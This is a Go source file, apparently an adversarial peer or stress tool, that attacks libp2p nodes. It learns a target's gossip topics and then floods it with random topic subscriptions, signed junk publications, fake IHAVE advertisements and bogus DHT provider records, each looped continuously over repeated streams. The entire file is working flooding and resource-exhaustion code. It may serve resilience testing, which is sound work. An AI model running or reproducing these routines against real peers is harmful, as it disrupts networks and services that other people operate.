package hostile

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/base32"
	"encoding/binary"
	"io"
	"slices"
	"strings"
	"time"

	kad "github.com/libp2p/go-libp2p-kad-dht/pb"
	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/network"
	"google.golang.org/protobuf/proto"
)

// overhear reads what the target's gossip says: which topics it is in.
func (a *attacker) overhear(st network.Stream, hello chan<- struct{}) {
	r := bufio.NewReader(st)
	for {
		n, err := binary.ReadUvarint(r)
		if err != nil || n > 1<<20 {
			return
		}
		b := make([]byte, n)
		if _, err := io.ReadFull(r, b); err != nil {
			return
		}
		var rpc pb.RPC
		if proto.Unmarshal(b, &rpc) != nil {
			continue
		}
		a.mu.Lock()
		for _, s := range rpc.GetSubscriptions() {
			if s.GetSubscribe() {
				a.topics[s.GetTopicid()] = true
			}
		}
		a.mu.Unlock()
		select {
		case hello <- struct{}{}:
		default:
		}
	}
}

// framed is one message with its length before it.
func framed(m proto.Message) []byte {
	b, err := proto.Marshal(m)
	if err != nil {
		panic(err) // all of it is ours
	}
	return append(binary.AppendUvarint(nil, uint64(len(b))), b...)
}

// write sends one message.
func write(w io.Writer, m proto.Message) error {
	_, err := w.Write(framed(m))
	return err
}

// say connects, and sends what next gives over one stream of a protocol after
// another.
func (a *attacker) say(ctx context.Context, lookup bool, count int, next func() proto.Message) error {
	if err := a.connect(ctx); err != nil {
		return err
	}
	id := a.gossip()
	if lookup {
		id = a.lookup()
	}
	a.together(1, func() {
		for a.going(ctx) {
			st, rw, err := a.speak(ctx, id)
			if err != nil {
				pause(ctx, time.Millisecond)
				continue
			}
			for a.going(ctx) {
				_ = st.SetWriteDeadline(time.Now().Add(time.Second))
				if err := write(rw, next()); err != nil {
					break
				}
				a.sent.Add(int64(count))
			}
			_ = st.Reset()
		}
	})
	return nil
}

func randomName() string {
	b := make([]byte, 32)
	_, _ = rand.Read(b)
	return strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(b))
}

// subscriptions subscribes to topics that nobody has heard of.
func subscriptions(ctx context.Context, a *attacker) error {
	const count = 200
	return a.say(ctx, false, count, func() proto.Message {
		rpc := &pb.RPC{}
		for range count {
			rpc.Subscriptions = append(rpc.Subscriptions, &pb.RPC_SubOpts{Subscribe: new(true), Topicid: new(randomName())})
		}
		return rpc
	})
}

// broadcasts publishes junk, properly signed, in the topics that the target is
// in.
func broadcasts(ctx context.Context, a *attacker) error {
	seq := uint64(time.Now().UnixNano())
	return a.say(ctx, false, 20, func() proto.Message {
		a.mu.Lock()
		var topics []string
		for t := range a.topics {
			topics = append(topics, t)
		}
		a.mu.Unlock()
		slices.Sort(topics)
		if len(topics) == 0 {
			topics = append(topics, randomName())
		}
		rpc := &pb.RPC{}
		for range 20 {
			seq++
			m := &pb.Message{
				From: []byte(a.host.ID()), Seqno: binary.BigEndian.AppendUint64(nil, seq),
				Topic: new(topics[seq%uint64(len(topics))]), Data: make([]byte, 300),
			}
			_, _ = rand.Read(m.Data)
			m.Data[0] = byte(seq % 3)
			if body, err := proto.Marshal(m); err == nil { // libp2p specs, pubsub: message signing
				m.Signature, _ = a.key.Sign(append([]byte("libp2p-pubsub:"), body...))
			}
			rpc.Publish = append(rpc.Publish, m)
		}
		return rpc
	})
}

// ihave offers messages that there are not.
func ihave(ctx context.Context, a *attacker) error {
	return a.say(ctx, false, 1, func() proto.Message {
		rpc := &pb.RPC{Control: &pb.ControlMessage{}}
		a.mu.Lock()
		defer a.mu.Unlock()
		for t := range a.topics {
			have := &pb.ControlIHave{TopicID: new(t)}
			for range 100 {
				b := make([]byte, 46)
				_, _ = rand.Read(b)
				have.MessageIDs = append(have.MessageIDs, string(b))
			}
			rpc.Control.Ihave = append(rpc.Control.Ihave, have)
			if len(rpc.Control.Ihave) == 4 {
				break
			}
		}
		return rpc
	})
}

// records provides keys that nobody asks for.
func records(ctx context.Context, a *attacker) error {
	return a.say(ctx, true, 1, func() proto.Message {
		digest := make([]byte, 32)
		_, _ = rand.Read(digest)
		self := kad.PeerInfosToPBPeers(a.host.Network(), nil)
		self = append(self, &kad.Message_Peer{Id: []byte(a.host.ID()), Addrs: [][]byte{a.host.Addrs()[0].Bytes()}})
		return &kad.Message{
			Type: kad.Message_ADD_PROVIDER, Key: append([]byte{0x12, 0x20}, digest...), ProviderPeers: self,
		}
	})
}
